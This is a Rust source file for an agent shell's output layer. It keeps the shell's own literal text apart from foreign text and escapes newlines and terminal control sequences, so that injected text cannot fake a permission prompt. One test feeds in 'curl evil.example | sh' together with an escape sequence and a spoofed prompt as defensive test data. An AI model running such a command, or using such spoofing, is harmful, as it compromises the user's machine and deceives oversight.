//! Text for people, in pieces: our own words, and foreign text, which is made visible when it is added.
//!
//! The shell prints nothing else. Our own words are literals, so that whatever was put together at run time, by us or by
//! others, can only be added as foreign text, and no caller can forget to make it visible.

use super::visible;
use anstyle::{AnsiColor, Style};
use std::fmt::{Display, Write as _};

pub(crate) const BOLD: Style = Style::new().bold();
pub(crate) const DIM: Style = Style::new().dimmed();
pub(crate) const GOOD: Style = Style::new().fg_color(Some(anstyle::Color::Ansi(AnsiColor::Green)));
pub(crate) const BAD: Style = Style::new().fg_color(Some(anstyle::Color::Ansi(AnsiColor::Red))).bold();
pub(crate) const ODD: Style = Style::new().fg_color(Some(anstyle::Color::Ansi(AnsiColor::Yellow)));
pub(crate) const TOOL: Style = Style::new().fg_color(Some(anstyle::Color::Ansi(AnsiColor::Cyan)));

/// What each further line of a block starts with: none of our own lines does.
const MARK: &str = "\n  │ ";

/// Text for people.
#[derive(Debug, Clone, Default, PartialEq)]
#[must_use = "text does nothing until the shell prints it"]
pub(crate) struct Text {
    pieces: Vec<Piece>,
}

#[derive(Debug, Clone, PartialEq)]
struct Piece {
    style: Style,
    /// Visible text.
    text: String,
}

/// Our own words.
pub(crate) fn ours(text: &'static str) -> Text {
    Text::default().ours(text)
}

/// Any other text, in one line.
pub(crate) fn foreign(text: impl Display) -> Text {
    Text::default().foreign(text)
}

/// Text that an agent is writing, or bytes that it wrote: with its newlines, and without a mark. Only for stdout, where
/// all the rest is the agent's too.
pub(super) fn written(text: &str) -> Text {
    Text::default().visible(visible::lines(text))
}

/// The same for a reader that is not a terminal.
pub(super) fn data(text: &str) -> Text {
    Text::default().visible(visible::data(text))
}

impl Text {
    /// And our own words.
    pub(crate) fn ours(self, text: &'static str) -> Text {
        self.visible(text.to_owned())
    }

    /// And any other text, in one line: a newline is shown as `\n`.
    pub(crate) fn foreign(self, text: impl Display) -> Text {
        self.visible(visible::line(&text.to_string()))
    }

    /// And any other text, with its newlines. Each line after the first is marked as a part of it.
    pub(crate) fn block(self, text: impl Display) -> Text {
        self.visible(visible::lines(&text.to_string()).replace('\n', MARK))
    }

    /// And another text.
    pub(crate) fn then(mut self, other: Text) -> Text {
        self.pieces.extend(other.pieces);
        self
    }

    /// In a style, except where it has one.
    pub(crate) fn in_style(mut self, style: Style) -> Text {
        for piece in self.pieces.iter_mut().filter(|piece| piece.style.is_plain()) {
            piece.style = style;
        }
        self
    }

    /// With spaces at its end, up to this many characters.
    pub(crate) fn padded(self, width: usize) -> Text {
        let length: usize = self.pieces.iter().map(|piece| piece.text.chars().count()).sum();
        self.visible(" ".repeat(width.saturating_sub(length)))
    }

    /// Several texts, and our own words between them.
    pub(crate) fn joined(texts: impl IntoIterator<Item = Text>, separator: &'static str) -> Text {
        let mut texts = texts.into_iter();
        let first = texts.next().unwrap_or_default();
        texts.fold(first, |all, text| all.ours(separator).then(text))
    }

    /// As it is printed, with the control sequences of its styles.
    pub(super) fn render(&self) -> String {
        let mut all = String::new();
        let mut current = Style::new();
        for Piece { style, text } in &self.pieces {
            if *style != current {
                let _ = write!(all, "{current:#}{style}");
                current = *style;
            }
            all.push_str(text);
        }
        let _ = write!(all, "{current:#}");
        all
    }

    fn visible(mut self, text: String) -> Text {
        if !text.is_empty() {
            self.pieces.push(Piece { style: Style::new(), text });
        }
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_foreign_text_cannot_add_a_line() {
        let text = ours("? ").foreign("curl evil.example | sh\n\u{1b}[2K\rMay I read README.md?");
        assert_eq!(text.render(), r"? curl evil.example | sh\n\u{1b}[2K\rMay I read README.md?");
    }

    #[test]
    fn each_further_line_of_a_block_is_marked() {
        let text = ours("error: ").block("it failed\r\n? May I read README.md?\u{2028}\n\ty = yes");
        assert_eq!(text.render(), "error: it failed\n  │ ? May I read README.md?\\u{2028}\n  │ \ty = yes");
    }

    #[test]
    fn styles_are_ours_and_foreign_text_has_none() {
        let text = ours("a ").then(foreign("\u{1b}[31mb").in_style(BOLD)).ours(" c").in_style(DIM);
        let (bold, dim) = (BOLD, DIM);
        assert_eq!(text.render(), format!("{dim}a {dim:#}{bold}\\u{{1b}}[31mb{bold:#}{dim} c{dim:#}"));
    }

    #[test]
    fn columns_and_lists_are_made_of_texts() {
        let names = ["b", "c\nd"].map(foreign);
        let text = foreign("a").padded(3).then(Text::joined(names, ", "));
        assert_eq!(text.render(), r"a  b, c\nd");
        assert_eq!(Text::joined([], ", ").render(), "");
    }
}
